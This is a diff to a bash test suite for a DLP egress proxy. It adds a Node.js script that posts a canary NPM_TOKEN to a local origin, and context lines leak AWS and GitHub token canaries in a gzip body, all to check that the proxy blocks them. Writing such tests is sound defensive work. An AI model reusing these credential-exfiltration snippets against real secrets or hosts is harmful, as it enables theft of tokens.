@@ -1,5 +1,6 @@
 #!/usr/bin/env bash
-# DLP at the egress proxy (docs/dlp.md), with real clients in a real
+# DLP at the egress proxy (docs/dlp.md), with real clients (curl, python,
+# node, git) in a real
 # sandbox over plain HTTP to a local origin: an honest JSON API session
 # passes with zero findings; a token in a header, a canary from the
 # environment (raw, base64'd in a URL, in a gzip body), one of the user's
@@ -89,6 +90,23 @@ t_grep "a base64'd canary in the URL: refused" 'canary.* in url.* after base64' 
 t_run inside sh -c "printf '%s\n' \"\$AWS_ACCESS_KEY_ID\" \"\$AWS_SECRET_ACCESS_KEY\" \"\$GITHUB_TOKEN\" >canaries.txt; python3 client.py post http://$H /v1/leak-gzip \"{\\\"t\\\":\\\"\$GITHUB_TOKEN\\\"}\" gzip"
 t_grep "python: a canary GitHub token in a gzip body: refused" '^403' "$T_OUT"
 t_grep "found after gzip" 'after gzip' "$T_OUT"
+# node: http.request to the proxy (node's own clients do not read HTTP_PROXY)
+cat >node_leak.js <<'JS'
+const http = require("http");
+const proxy = new URL(process.env.HTTP_PROXY);
+const body = JSON.stringify({ token: process.env.NPM_TOKEN });
+const req = http.request({ host: proxy.hostname, port: proxy.port, method: "POST",
+	path: "http://" + process.argv[2] + "/v1/leak-node",
+	headers: { Host: process.argv[2], "Content-Type": "application/json",
+		"Content-Length": Buffer.byteLength(body) } }, (res) => {
+	let out = "";
+	res.on("data", (d) => (out += d));
+	res.on("end", () => console.log(res.statusCode, res.headers["x-canister-error"], out));
+});
+req.end(body);
+JS
+t_run inside node node_leak.js "$H"
+t_grep "node: the canary NPM_TOKEN in a JSON body: 403 dlp-blocked" '^403 dlp-blocked .*canary NPM_TOKEN' "$T_OUT"
 # The proxy forwards a head that passed before the body arrives: the
 # origin may see the request line, never the value.
 t_grep "the canary GitHub token never reached the origin (even decompressed)" '^0$' \
